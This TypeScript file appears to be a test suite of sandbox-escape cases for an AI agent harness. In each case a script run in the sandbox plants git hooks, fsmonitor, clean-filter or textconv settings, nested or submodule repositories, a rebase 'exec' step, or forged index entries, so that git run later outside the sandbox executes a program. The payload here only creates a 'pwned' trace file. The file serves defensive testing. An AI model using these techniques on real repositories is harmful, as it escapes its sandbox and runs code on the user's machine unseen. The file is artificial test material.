/**
 * Attacks by a script in the sandbox on the git that Troupe and the user run afterwards: what the script leaves makes git
 * start a program outside. The trace is a file that only that program makes.
 */
import type { Attack } from '../attack.ts'

/** `GIT` is the folder of the repository, `TOP` the agent's folder, and `evil` a program that leaves the trace. */
const PREPARE = `
TOP=$PWD GIT=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null || echo $PWD/.git)
printf '#!/bin/sh\\ntouch {{outside}}/pwned\\ncat\\n' > $TOP/evil.sh; chmod +x $TOP/evil.sh
as() { git -c user.name=A -c user.email=a@b.c -c core.fsmonitor= -c core.hooksPath=/dev/null "$@"; }
# Names the program in all ways that a repository has: arm <git folder>
arm() {
  printf '[core]\\nfsmonitor = %s\\n[filter "x"]\\nclean = %s\\nrequired = true\\n[diff "x"]\\ntextconv = %s\\n' $TOP/evil.sh $TOP/evil.sh $TOP/evil.sh >> $1/config
  mkdir -p $1/hooks
  for hook in post-index-change reference-transaction post-commit; do cp $TOP/evil.sh $1/hooks/$hook; done
}
nested() { mkdir -p $1; git init -q $1; as -C $1 commit -q --allow-empty -m x; echo f > $1/f; echo '* filter=x diff=x' > $1/.gitattributes; arm $1/.git; }
`

/** What the user may do next. The last part goes into every folder that claims to be a repository. */
const AFTERWARDS = `
set +e
exec > /dev/null 2>&1 < /dev/null
cd {{project}}
for tree in {{project}} $(git worktree list --porcelain | sed -n 's/^worktree //p' | tail -n +2); do
  cd $tree
  git status; git rebase --continue; git diff HEAD; git add -A; git stash create; git submodule status
  find . -name .git | while read found; do cd $tree/$(dirname $found) && { git status; git diff; git log -1 -p; }; done
done
cd {{project}}; git commit -qm Mine --allow-empty; git checkout -q -- .; git checkout -q -b mine
true`

type Row = readonly [name: string, script: string, more?: Partial<Attack> & { readonly before?: string }]

/** Adds an entry to the index by its bytes, which git itself refuses. */
const ENTRY_OF_A_HOOK = `cat > entry.py <<'END'
import hashlib, struct, subprocess
run = lambda *args: subprocess.check_output(args).decode().strip()
path = run('git', 'rev-parse', '--git-path', 'index')
content = open(path, 'rb').read()[:-20]
name = b'.git/hooks/post-checkout'
entry = struct.pack('>10I', 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(run('git', 'hash-object', '-w', 'evil.sh')) + struct.pack('>H', len(name)) + name
entry += b'\\0' * (8 - len(entry) % 8)
content = content[:8] + struct.pack('>I', struct.unpack('>I', content[8:12])[0] + 1) + entry + content[12:]
open(path, 'wb').write(content + hashlib.sha1(content).digest())
END
python3 entry.py; rm -f entry.py`

const rows: readonly Row[] = [
  ['commondir', 'nested other; echo $TOP/other/.git > $GIT/commondir'],
  [
    "programs in the repository's own settings",
    'arm $GIT; echo "* filter=x diff=x" > .gitattributes; echo more >> a.txt',
  ],
  [
    'settings that are replaced by renaming',
    'cp $GIT/config $GIT/new; printf "[core]\\nfsmonitor=$TOP/evil.sh\\n" >> $GIT/new; mv -f $GIT/new $GIT/config',
  ],
  [
    'a changed script that a filter of the user runs',
    'cp evil.sh tools/clean.sh; rm -f tools/clean.sh; mkdir -p tools; cp evil.sh tools/clean.sh; echo more >> a.txt',
    {
      before:
        'mkdir tools; printf "#!/bin/sh\\ncat\\n" > tools/clean.sh; chmod +x tools/clean.sh; git config filter.x.clean ./tools/clean.sh; echo "a.txt filter=x" > .gitattributes; git add -A; git commit -qm Filter',
    },
  ],
  [
    "a changed file that the user's settings include",
    'printf "[core]\\nfsmonitor = $TOP/evil.sh\\n" >> shared/settings; mv shared gone && cp -r gone shared',
    {
      before:
        'mkdir shared; printf "[user]\\nname = A\\n" > shared/settings; git config include.path ../shared/settings; git add -A; git commit -qm Settings',
    },
  ],
  [
    'hooks that did not exist',
    'mkdir -p $GIT/hooks; for h in post-index-change post-commit; do cp evil.sh $GIT/hooks/$h; done',
  ],
  [
    'settings of a worktree',
    'own=$(git rev-parse --git-dir); printf "[core]\\nfsmonitor=$TOP/evil.sh\\n" > $own/config.worktree; git config extensions.worktreeConfig true',
  ],
  [
    'an entry of a worktree',
    'mkdir -p $GIT/worktrees/x sub; nested other; echo $TOP/sub/.git > $GIT/worktrees/x/gitdir; echo ../../../other/.git > $GIT/worktrees/x/commondir; echo ref: refs/heads/x > $GIT/worktrees/x/HEAD; echo "gitdir: $GIT/worktrees/x" > sub/.git',
    { undefended: 'Git finds nothing wrong with it, and runs nothing of it.' },
  ],
  [
    'a rebase with a step that runs a program',
    'own=$(git rev-parse --git-dir); mkdir -p $own/rebase-merge; cd $own/rebase-merge; echo "exec $TOP/evil.sh" > git-rebase-todo; git -C $TOP rev-parse HEAD > onto; cp onto orig-head; echo refs/heads/main > head-name; : > done; : > interactive; echo 1 > end; echo 0 > msgnum',
  ],
  ['a nested repository', 'nested sub'],
  ['a nested repository below missing folders', 'nested deep/er/sub'],
  ['a nested repository in a folder of packages', 'nested node_modules/x; git add -f node_modules/x'],
  ['a nested repository that the index names', 'nested sub; as add sub'],
  ['a nested repository that a commit names', 'nested sub; as add sub; as commit -qm Sub'],
  [
    'a nested repository that the index names before it is there',
    'git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; nested sub',
  ],
  [
    'a submodule with settings of its own',
    'printf "[submodule \\"sub\\"]\\npath = sub\\nurl = ./sub\\nupdate = !$TOP/evil.sh\\n" > .gitmodules; nested sub; as add -f .gitmodules sub',
  ],
  [
    "a submodule that the user's commit names, and that is not filled",
    'nested sub',
    {
      before:
        'git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; git commit -qm Sub; mkdir -p sub',
    },
  ],
  [
    'a .git file that leads to a folder of another name',
    'nested sub; mv sub/.git hidden; echo "gitdir: ../hidden" > sub/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub',
  ],
  [
    'a .git file that leads into objects',
    'nested sub; mkdir -p other; git init -q keep; mv sub/.git keep/.git/objects/evil; rmdir other; echo "gitdir: ../keep/.git/objects/evil" > sub/.git',
  ],
  [
    'a .git that is a link',
    'nested x/y; mkdir -p sub; ln -sfn ../x/y/.git sub/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub',
  ],
  [
    'a nested repository whose settings are in another file',
    'nested sub; mv sub/.git/config sub/more; git -C sub init -q; git config -f sub/.git/config include.path ../more',
  ],
  [
    'a nested repository with settings of a worktree',
    'nested sub; mv sub/.git/config sub/.git/config.worktree; git -C sub init -q; git config -f sub/.git/config extensions.worktreeConfig true',
  ],
  [
    'a nested repository with a common folder elsewhere',
    'nested other; git init -q sub; mv other/.git hidden; echo ../../hidden > sub/.git/commondir',
  ],
  [
    'a module of a nested repository',
    'git init -q sub; nested sub/x; mkdir -p sub/.git/modules; mv sub/x/.git sub/.git/modules/x; echo "gitdir: ../.git/modules/x" > sub/x/.git; git -C sub update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x',
  ],
  [
    'a nested repository that a second command arms',
    'if [ -e sub/.git ]; then arm sub/.git; else git init -q sub; fi',
    { calls: ['bash job.sh', 'bash job.sh'] },
  ],
  [
    'a nested repository in a folder of packages that a second command arms',
    'if [ -e node_modules/x/.git ]; then arm node_modules/x/.git; else git init -q node_modules/x; as -C node_modules/x commit -q --allow-empty -m x; git add -f node_modules/x; fi',
    { calls: ['bash job.sh', 'bash job.sh'] },
  ],
  [
    'a nested repository in which the agent goes on',
    'nested sub; echo more >> sub/f',
    { calls: ['bash job.sh', 'cd sub', 'bash -c "echo more >> f"'] },
  ],
  [
    'a hook as a tracked file',
    ENTRY_OF_A_HOOK,
    { afterwards: 'git checkout -q -- . || true; git checkout -q -b mine || true' },
  ],
  [
    'a commit with a hook as a file',
    'blob=$(git hash-object -w evil.sh); h=$(printf "100755 blob $blob\\tpost-checkout\\n" | git mktree); g=$(printf "040000 tree $h\\thooks\\n" | git mktree); t=$( (git ls-tree HEAD; printf "040000 tree $g\\t.git\\n") | git mktree); git update-ref HEAD $(as commit-tree -p HEAD -m x $t)',
    { undefended: 'Git itself refuses to check out such a file.' },
  ],
]

const fresh: readonly Row[] = [
  [
    'a repository in a folder without one',
    'git init -q . ; as add -A; as commit -qm x; arm .git; echo more >> a.txt; git worktree list > /dev/null',
  ],
  ['a nested repository in a folder without one', 'nested sub'],
]

/** What a script may not change in a repository, with the trace in the repository. */
const elsewhere: readonly (readonly [name: string, script: string, trace: string])[] = [
  [
    "the user's other branch",
    'git update-ref refs/heads/other HEAD~0^{commit}; git branch -f other $(as commit-tree -m x HEAD^{tree})',
    'refs/heads/other',
  ],
  ["the user's stash", 'git update-ref refs/stash $(as commit-tree -m x HEAD^{tree})', 'refs/stash'],
  [
    'other object stores',
    'mkdir -p $GIT/objects/info; echo /var/empty > $GIT/objects/info/alternates',
    'objects/info/alternates',
  ],
  [
    "the log of the user's other branch",
    'mkdir -p $GIT/logs/refs/heads; echo x >> $GIT/logs/refs/heads/other',
    'logs/refs/heads/other',
  ],
  [
    'attributes of the repository',
    'mkdir -p $GIT/info; echo "* filter=x" > $GIT/info/attributes',
    'info/attributes',
  ],
]

const toAttack = ([name, script, { before = '', ...more } = {}]: Row): Attack => ({
  name: `a script that leaves ${name}`,
  source: '6.3',
  defense: "git's folder",
  calls: ['bash job.sh'],
  outcome: 'harmless',
  trace: '{{outside}}/pwned',
  afterwards: AFTERWARDS,
  ...more,
  files: { 'project/job.sh': `${PREPARE}\n{ ${script}\n} > /dev/null 2>&1\ntrue\n` },
  before: `git init -q . && git add -A -f && git commit -qm Start\n${before}`,
})

export const sandboxGit: readonly Attack[] = [
  ...rows.map(toAttack),
  ...fresh.map((row) => ({ ...toAttack(row), before: 'true' })),
  ...elsewhere.map(([name, script, trace]): Attack => {
    const { afterwards: _, ...attack } = toAttack([
      name,
      script,
      { before: 'git branch other; git stash list' },
    ])
    return { ...attack, name: `a script that changes ${name}`, trace: `{{project}}/.git/${trace}` }
  }),
]
